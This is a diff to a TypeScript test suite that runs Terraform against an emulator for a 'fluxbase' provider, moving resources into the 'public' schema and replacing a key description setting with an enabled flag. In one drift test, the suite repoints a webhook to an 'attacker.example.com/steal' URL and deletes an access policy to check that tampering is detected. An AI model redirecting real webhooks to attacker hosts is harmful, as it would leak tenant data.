@@ -14,7 +14,7 @@ interface Knobs {
   hookUrl?: string;
   noteColumns?: string;
   using?: string;
-  keyDescription?: string;
+  keyEnabled?: boolean;
   secretVersion?: number;
   extra?: string;
 }
@@ -25,14 +25,10 @@ resource "fluxbase_tenant" "acme" {
   name = "Acme Inc"
 }
 
-resource "fluxbase_schema" "app" {
-  tenant = fluxbase_tenant.acme.slug
-  name   = "crm"
-}
-
+# In a tenant with its own database, public is where every change works (docs/tenants.md).
 resource "fluxbase_table" "notes" {
   tenant = fluxbase_tenant.acme.slug
-  schema = fluxbase_schema.app.name
+  schema = "public"
   name   = "notes"
   columns = [
     { name = "id", type = "uuid", primary_key = true, default = "gen_random_uuid()" },
@@ -48,7 +44,7 @@ resource "fluxbase_table" "notes" {
 
 resource "fluxbase_rls_policy" "own" {
   tenant  = fluxbase_tenant.acme.slug
-  schema  = fluxbase_schema.app.name
+  schema  = "public"
   table   = fluxbase_table.notes.name
   name    = "notes_own"
   command = "SELECT"
@@ -60,7 +56,7 @@ resource "fluxbase_webhook" "notify" {
   tenant = fluxbase_tenant.acme.slug
   name   = "notify"
   url    = ${JSON.stringify(k.hookUrl ?? 'https://hooks.example.com/notes')}
-  events = [{ table = "crm.notes", operations = ["INSERT", "UPDATE"] }]
+  events = [{ table = "public.notes", operations = ["INSERT", "UPDATE"] }]
   secret_wo         = "signing-secret-${k.secretVersion ?? 1}"
   secret_wo_version = ${k.secretVersion ?? 1}
 }
@@ -68,8 +64,9 @@ resource "fluxbase_webhook" "notify" {
 resource "fluxbase_service_key" "ci" {
   tenant      = fluxbase_tenant.acme.slug
   name        = "ci"
-  description = ${JSON.stringify(k.keyDescription ?? 'CI pipeline')}
+  description = "CI pipeline"
   scopes      = ["tables:read", "tables:write"]
+  enabled     = ${k.keyEnabled ?? true}
 }
 
 output "ci_key" {
@@ -99,13 +96,13 @@ describe('fluxbase provider lifecycle under real terraform', () => {
     const init = await ws.ok(['init']);
     expect(init.output).toContain('Installing fluxbase/fluxbase v0.1.0');
     const plan = await ws.ok(['plan']);
-    expect(plan.stdout).toContain('Plan: 6 to add, 0 to change, 0 to destroy.');
+    expect(plan.stdout).toContain('Plan: 5 to add, 0 to change, 0 to destroy.');
     expect(plan.stdout).toMatch(/secret_wo\s+= \(write-only attribute\)/);
   });
 
   it('applies them; the service key value flows out as a sensitive output', async () => {
     const apply = await ws.ok(['apply', '-auto-approve']);
-    expect(apply.stdout).toContain('Apply complete! Resources: 6 added, 0 changed, 0 destroyed.');
+    expect(apply.stdout).toContain('Apply complete! Resources: 5 added, 0 changed, 0 destroyed.');
     acme = await tenantId(emulator, 'acme');
     const out = JSON.parse((await ws.ok(['output', '-json', 'ci_key'])).stdout) as string;
     expect(out).toMatch(/^sk_/);
@@ -132,7 +129,7 @@ describe('fluxbase provider lifecycle under real terraform', () => {
         hookUrl: 'https://hooks.example.com/v2/notes',
         noteColumns: '\n    { name = "title", type = "varchar(200)" },',
         using: 'owner = auth.uid() AND body IS NOT NULL',
-        keyDescription: 'CI pipeline (rotated owner)',
+        keyEnabled: false,
       }),
     );
     await ws.ok(['plan', '-out', 'change.tfplan']);
@@ -148,14 +145,14 @@ describe('fluxbase provider lifecycle under real terraform', () => {
     expect(hooks.body.map((h) => h.url)).toEqual(['https://hooks.example.com/v2/notes']);
     const cols = await api(emulator, 'POST', '/api/v1/admin/sql/execute', {
       tenant: acme,
-      body: { query: "SELECT attname FROM pg_attribute WHERE attrelid = 'crm.notes'::regclass AND attnum > 0 AND NOT attisdropped ORDER BY attnum" },
+      body: { query: "SELECT attname FROM pg_attribute WHERE attrelid = 'public.notes'::regclass AND attnum > 0 AND NOT attisdropped ORDER BY attnum" },
     });
     expect(JSON.stringify(cols.body)).toContain('title');
     await ws.ok(['plan', '-detailed-exitcode']);
   });
 
   it('re-sends the write-only secret when its version changes', async () => {
-    ws.config(config({ hookUrl: 'https://hooks.example.com/v2/notes', noteColumns: '\n    { name = "title", type = "varchar(200)" },', using: 'owner = auth.uid() AND body IS NOT NULL', keyDescription: 'CI pipeline (rotated owner)', secretVersion: 2 }));
+    ws.config(config({ hookUrl: 'https://hooks.example.com/v2/notes', noteColumns: '\n    { name = "title", type = "varchar(200)" },', using: 'owner = auth.uid() AND body IS NOT NULL', keyEnabled: false, secretVersion: 2 }));
     const plan = await ws.ok(['plan', '-out', 'secret.tfplan']);
     expect(plan.stdout).toMatch(/secret_wo_version\s+= 1 -> 2/);
     expect(await ws.planActions('secret.tfplan')).toEqual([['fluxbase_webhook.notify', 'update']]);
@@ -168,8 +165,8 @@ describe('fluxbase provider lifecycle under real terraform', () => {
     const hook = hooks.body[0]!;
     await api(emulator, 'PATCH', `/api/v1/webhooks/${hook.id as string}`, { tenant: acme, body: { ...hook, url: 'https://attacker.example.com/steal' } });
     const keys = await api<{ id: string }[]>(emulator, 'GET', '/api/v1/admin/service-keys', { tenant: acme });
-    expect((await api(emulator, 'POST', `/api/v1/admin/service-keys/${keys.body[0]!.id}/disable`, { tenant: acme })).status).toBe(204);
-    const del = await api(emulator, 'DELETE', '/api/v1/admin/policies/crm/notes/notes_own', { tenant: acme });
+    expect((await api(emulator, 'POST', `/api/v1/admin/service-keys/${keys.body[0]!.id}/enable`, { tenant: acme })).status).toBe(204);
+    const del = await api(emulator, 'DELETE', '/api/v1/admin/policies/public/notes/notes_own', { tenant: acme });
     expect(del.status).toBe(200);
 
     const plan = await ws.ok(['plan', '-detailed-exitcode', '-out', 'drift.tfplan'], 2);
@@ -188,7 +185,7 @@ describe('fluxbase provider lifecycle under real terraform', () => {
   it('imports an existing webhook with terraform import', async () => {
     const created = await api<{ id: string }>(emulator, 'POST', '/api/v1/webhooks', {
       tenant: acme,
-      body: { name: 'legacy', url: 'https://legacy.example.com/in', enabled: true, events: [{ table: 'crm.notes', operations: ['DELETE'] }], scope: 'global', max_retries: 3, retry_backoff_seconds: 5, timeout_seconds: 30 },
+      body: { name: 'legacy', url: 'https://legacy.example.com/in', enabled: true, events: [{ table: 'public.notes', operations: ['DELETE'] }], scope: 'global', max_retries: 3, retry_backoff_seconds: 5, timeout_seconds: 30 },
     });
     expect(created.status).toBe(201);
     const legacy = `
@@ -197,10 +194,10 @@ resource "fluxbase_webhook" "legacy" {
   name    = "legacy"
   url     = "https://legacy.example.com/in"
   enabled = true
-  events  = [{ table = "crm.notes", operations = ["DELETE"] }]
+  events  = [{ table = "public.notes", operations = ["DELETE"] }]
 }
 `;
-    ws.config(config({ hookUrl: 'https://hooks.example.com/v2/notes', noteColumns: '\n    { name = "title", type = "varchar(200)" },', using: 'owner = auth.uid() AND body IS NOT NULL', keyDescription: 'CI pipeline (rotated owner)', secretVersion: 2, extra: legacy }));
+    ws.config(config({ hookUrl: 'https://hooks.example.com/v2/notes', noteColumns: '\n    { name = "title", type = "varchar(200)" },', using: 'owner = auth.uid() AND body IS NOT NULL', keyEnabled: false, secretVersion: 2, extra: legacy }));
     const refused = await ws.ok(['plan'], 1);
     expect(refused.output).toContain('already exists on the server');
     expect(refused.output).toContain('acme/legacy');
@@ -214,7 +211,7 @@ resource "fluxbase_webhook" "legacy" {
   it('imports with an import block and -generate-config-out', async () => {
     await api(emulator, 'POST', '/api/v1/webhooks', {
       tenant: acme,
-      body: { name: 'audit', url: 'https://audit.example.com/in', enabled: false, events: [{ table: 'crm.notes', operations: ['UPDATE'] }], headers: { 'X-Team': 'sec' }, scope: 'global', max_retries: 5, retry_backoff_seconds: 5, timeout_seconds: 10 },
+      body: { name: 'audit', url: 'https://audit.example.com/in', enabled: false, events: [{ table: 'public.notes', operations: ['UPDATE'] }], headers: { 'X-Team': 'sec' }, scope: 'global', max_retries: 5, retry_backoff_seconds: 5, timeout_seconds: 10 },
     });
     ws.write('import.tf', 'import {\n  to = fluxbase_webhook.audit\n  id = "webhook.acme.audit"\n}\n');
     const gen = await ws.ok(['plan', '-generate-config-out=generated.tf']);
@@ -229,7 +226,7 @@ resource "fluxbase_webhook" "legacy" {
 
   it('destroys everything: the tenant is soft-deleted', async () => {
     const res = await ws.ok(['destroy', '-auto-approve']);
-    expect(res.stdout).toContain('Destroy complete! Resources: 8 destroyed.');
+    expect(res.stdout).toContain('Destroy complete! Resources: 7 destroyed.');
     const tenants = await api<{ slug: string }[]>(emulator, 'GET', '/api/v1/admin/tenants');
     expect(tenants.body.map((t) => t.slug)).not.toContain('acme');
   });
